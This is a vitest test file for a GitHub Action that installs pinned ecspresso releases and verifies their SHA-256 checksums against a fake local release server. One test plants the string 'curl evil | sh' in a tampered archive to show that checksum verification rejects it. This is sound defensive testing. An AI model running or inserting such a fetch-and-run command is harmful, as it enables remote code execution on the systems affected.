// main() with the real @actions/core and @actions/tool-cache against a fake release on 127.0.0.1:
// outputs and GITHUB_PATH read back from their files, the tool cache and RUNNER_TEMP inspected.
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { delimiter, dirname, join } from 'node:path';
import { actionDefaults, runAction } from '@doppio-dev/action-testing';
import { afterEach, expect, it } from 'vitest';
import { run } from '../src/main.js';
import { assetName, parseVersion, platformOf } from '../src/release.js';
import { checksumsFile, fakeArchive, runnerDirs, sha256Hex, startReleaseServer, type ReleaseServer } from './fake-release.js';

const defaults = actionDefaults(join(import.meta.dirname, '..', 'action.yml'));
// This machine's asset, named as the release names it (the names themselves are pinned in release.test.ts).
const asset = assetName(parseVersion('v2.8.7'), platformOf(process.platform, process.arch));
const nodeArch = platformOf(process.platform, process.arch).nodeArch;

let server: ReleaseServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

async function serveRelease(archive: Buffer, listed: Buffer = archive): Promise<ReleaseServer> {
  server = await startReleaseServer({ 'v2.8.7/checksums.txt': checksumsFile({ [asset]: listed }), [`v2.8.7/${asset}`]: archive });
  return server;
}

it('defaults to the pinned v2.8.7 from kayac/ecspresso releases', () => {
  expect(defaults).toEqual({ version: 'v2.8.7', 'base-url': 'https://github.com/kayac/ecspresso/releases/download' });
});

it('installs the verified release, puts it on PATH, and a second run is a cache hit with no download', async () => {
  const release = await serveRelease(fakeArchive('ecspresso v2.8.7'));
  const dirs = runnerDirs();
  const first = await runAction(run, { ...defaults, 'base-url': release.baseUrl }, dirs.env);
  expect(first.failed).toBe(false);
  const binary = join(dirs.toolCache, 'ecspresso', '2.8.7', nodeArch, 'ecspresso');
  expect(first.outputs).toEqual({ version: 'v2.8.7', path: binary, 'cache-hit': 'false' });
  expect(release.requests).toEqual(['/download/v2.8.7/checksums.txt', `/download/v2.8.7/${asset}`]);
  // The directory went to GITHUB_PATH, and from there `ecspresso` runs by name.
  expect(readFileSync(dirs.githubPath, 'utf8').split('\n').filter(Boolean)).toEqual([dirname(binary)]);
  expect(execFileSync('ecspresso', ['version'], { env: { PATH: `${dirname(binary)}${delimiter}/usr/bin${delimiter}/bin` }, encoding: 'utf8' })).toBe('ecspresso v2.8.7\n');
  // main ran it once itself: its output is in the log.
  expect(first.log).toContain('ecspresso v2.8.7\n');
  expect(readdirSync(dirs.temp)).toEqual([]);

  const second = await runAction(run, { ...defaults, 'base-url': release.baseUrl }, dirs.env);
  expect(second.failed).toBe(false);
  expect(second.outputs).toEqual({ version: 'v2.8.7', path: binary, 'cache-hit': 'true' });
  expect(release.requests).toHaveLength(2);
  expect(readFileSync(dirs.githubPath, 'utf8').split('\n').filter(Boolean)).toEqual([dirname(binary), dirname(binary)]);
});

it('accepts the version without its v', async () => {
  const release = await serveRelease(fakeArchive('ecspresso v2.8.7'));
  const result = await runAction(run, { ...defaults, version: '2.8.7', 'base-url': release.baseUrl }, runnerDirs().env);
  expect(result.outputs['version']).toBe('v2.8.7');
  expect(release.requests).toEqual(['/download/v2.8.7/checksums.txt', `/download/v2.8.7/${asset}`]);
});

it('refuses a tampered archive with both sums, installing nothing', async () => {
  const genuine = fakeArchive('ecspresso v2.8.7');
  const tampered = fakeArchive('ecspresso v2.8.7; curl evil | sh');
  const release = await serveRelease(tampered, genuine);
  const dirs = runnerDirs();
  const result = await runAction(run, { ...defaults, 'base-url': release.baseUrl }, dirs.env);
  expect(result.failed).toBe(true);
  expect(result.log).toContain(
    `::error::checksum mismatch for ${asset}: expected SHA-256 ${sha256Hex(genuine)} (from ${release.baseUrl}/v2.8.7/checksums.txt), got ${sha256Hex(tampered)} for ${release.baseUrl}/v2.8.7/${asset}. Nothing was installed.`,
  );
  expect(result.outputs).toEqual({});
  expect(readdirSync(dirs.toolCache)).toEqual([]);
  expect(readFileSync(dirs.githubPath, 'utf8')).toBe('');
  expect(readdirSync(dirs.temp)).toEqual([]);
});

it('fails clearly when the release has no asset for this platform (404)', async () => {
  server = await startReleaseServer({ 'v2.8.7/checksums.txt': checksumsFile({ [asset]: fakeArchive('x') }) });
  const dirs = runnerDirs();
  const result = await runAction(run, { ...defaults, 'base-url': server.baseUrl }, dirs.env);
  expect(result.failed).toBe(true);
  const page = server.baseUrl.replace(/\/download$/, '');
  expect(result.log).toContain(`::error::${server.baseUrl}/v2.8.7/${asset} does not exist (HTTP 404): ecspresso v2.8.7 has no `);
  expect(result.log).toContain(`Check that v2.8.7 is a release and which platforms it ships at ${page} (ecspresso v2 releases ship linux/amd64, linux/arm64, darwin/amd64, darwin/arm64`);
  expect(result.outputs).toEqual({});
  expect(existsSync(join(dirs.toolCache, 'ecspresso'))).toBe(false);
});

it('refuses latest without any download', async () => {
  server = await startReleaseServer({});
  const dirs = runnerDirs();
  const result = await runAction(run, { ...defaults, version: 'latest', 'base-url': server.baseUrl }, dirs.env);
  expect(result.failed).toBe(true);
  expect(result.log).toContain('::error::ecspresso version `latest` is not allowed: doppio installs a fixed, tested ecspresso version');
  expect(server.requests).toEqual([]);
  expect(result.outputs).toEqual({});
});

it('fails when the installed binary does not run', async () => {
  const release = await serveRelease(fakeArchive('exec format error', { exitCode: 126 }));
  const result = await runAction(run, { ...defaults, 'base-url': release.baseUrl }, runnerDirs().env);
  expect(result.failed).toBe(true);
  expect(result.log).toContain('but `ecspresso version` exited with 126: exec format error');
  expect(result.outputs).toEqual({});
});
